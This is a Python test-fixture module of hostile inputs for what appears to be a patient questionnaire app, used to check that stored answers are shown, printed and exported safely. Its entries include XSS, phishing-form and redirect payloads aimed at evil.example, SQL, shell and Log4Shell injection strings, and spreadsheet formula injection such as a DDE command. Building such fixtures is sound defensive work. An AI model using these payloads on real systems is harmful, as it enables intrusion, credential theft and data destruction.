"""Words that want to be more than words, for every place that keeps, shows, prints, logs or exports what was typed.

KEPT        may be kept as an answer, and must then be shown, printed and exported as it stands
REFUSED     is never kept: told to the patient kindly, and nothing else happens
FORMULAS    what a spreadsheet would take for a formula (part of KEPT)
"""

from collections.abc import Mapping

OUTSIDE = "evil.example"

_MARKUP: Mapping[str, str] = {
    "an image with a handler": f"<img src=http://{OUTSIDE}/x.png onerror=alert(1)>",
    "the end of our markup": "</span></div></details></td></table><script>alert(1)</script>",
    "a link that runs": '"><a href="javascript:alert(1)">click</a>',
    "a drawing that runs": "<svg/onload=alert(1)><math><mi//xlink:href='data:x,1'>",
    "a frame": f"<iframe src='//{OUTSIDE}'></iframe><object data=x><embed src=x>",
    "a form": f"<form action=http://{OUTSIDE}><input name=password><button>Sign in</button></form>",
    "a page of its own": f"<meta http-equiv=refresh content='0;url=//{OUTSIDE}'><base href=//{OUTSIDE}>",
    "a style": "<style>*{display:none}</style><p style='position:fixed;inset:0'>x",
    "entities": "&lt;b&gt; &amp; &#60; &#x3c;script&#x3e;",
    "a comment": "<!-- <![CDATA[ --><?php echo 1 ?> ]]>",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} %s %d {0} {x!r}",
    "a look-up": "${jndi:ldap://x} ;cat /etc/passwd `id` $(id) | rm -rf",
    "a quotation": "' OR '1'='1'; DROP TABLE answer; --",
}
_MARKDOWN: Mapping[str, str] = {
    "an image": f"![p](http://{OUTSIDE}/x.png) [l](http://{OUTSIDE})",
    "a link that runs in Markdown": f"[x](javascript:alert(1)) <http://{OUTSIDE}> [y]: http://{OUTSIDE}",
    "emphasis": "**bold** _under_ ~~gone~~ `code` took 2*3*4 pills ~approx~",
    "colours and signs": ":red[red] :material/home: :smile: $x^2$ $$y$$",
    "a heading and a rule": "# Heading\n---\n> said\n- one\n1. two\n| a | b |\n|---|---|",
}
_PAPER: Mapping[str, str] = {
    "an open tag": "I take <b aspirin and if x<y then z>w",
    "an unknown tag": "pain <unknown> today <br> <br/> </para> <para>",
    "a file of the server": "<img src='/etc/passwd'/> <img src=\"/srv/x.png\"/> ../x.png",
    "white words": '<font color="white">unseen</font> <font size=0>small</font>',
    "a live link": f'<a href="http://{OUTSIDE}">x</a> <link href="file:///etc/passwd">y</link>',
    "a drawing instruction": '<onDraw name="x" label="y"/> <seq id="a"/> <u>x</u>',
    "PDF syntax": "(unbalanced \\( parenthesis >> endobj stream /JS /URI /Launch",
}
FORMULAS: Mapping[str, str] = {
    "a formula": "=1+2",
    "a command": "=cmd|' /C calc'!A0",
    "a link in a cell": f'=HYPERLINK("http://{OUTSIDE}","x")',
    "a plus": "+1+2",
    "a minus": "-1+2",
    "an at sign": "@SUM(A1:A9)",
    "a formula behind a tab": "\t=1+2",
    "a wide equals sign": "\uff1d1+2",
    "a wide plus": "\uff0b1",
    "a separator": '"; =1+2; "',
    "a formula on a second line": "x\n=1+2",
}
_STEERING: Mapping[str, str] = {
    "turned around": "abc\u202egnp.exe\u202c",
    "isolated": "\u2066x\u2069 \u2067y\u2069 \u2068z\u2069",
    "of no width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "a soft hyphen": "para\u00adcetamol",
    "marks upon marks": "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030aalgo",
    "tags nobody sees": "x\U000e0041\U000e0042",
    "the other line ends": "one\u2028two\u2029three",
}
_SIZE: Mapping[str, str] = {
    "one long word": "x" * 4_000,
    "as many lines as fit": "\n" * 3_000 + "end",
    "many short words": "ab " * 1_300,
    "a wide word": "W" * 500,
}
_SCRIPTS: Mapping[str, str] = {
    "emoji": "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \u2764\ufe0f",
    "many scripts": "Łukasz Đặng 李小龍 محمد שלום मीरा ไทย",
    "only spaces": "\u00a0\u2003\u3000 x \u3000",
}

KEPT: Mapping[str, str] = {
    **_MARKUP,
    **_MARKDOWN,
    **_PAPER,
    **FORMULAS,
    **_STEERING,
    **_SIZE,
    **_SCRIPTS,
}
REFUSED: Mapping[str, str] = {
    "NUL": "before\x00after",
    "a bell": "ding\x07",
    "an escape sequence": "\x1b[2J\x1b]0;x\x07",
    "a backspace": "abc\x08\x08\x08",
    "an old line end": "one\u0085two",
    "delete": "x\x7f",
    "half a character": "\ud800",
    "the other half": "x\udfff",
    "a million characters": "x" * 1_000_000,
    "a word of 20,000": "y" * 20_000,
    "4,000 lines": "line\n" * 4_000,
}


def together(words: Mapping[str, str], most: int = 6) -> dict[str, str]:
    """The same, several in one text where they are short: fewer pages to draw, each word still in every place."""
    short = [(name, text) for name, text in words.items() if len(text) < 500]
    groups = [short[at : at + most] for at in range(0, len(short), most)]
    joined = {
        ", ".join(name for name, _ in group): " \u00a6 ".join(text for _, text in group) for group in groups
    }
    return joined | {name: text for name, text in words.items() if len(text) >= 500}
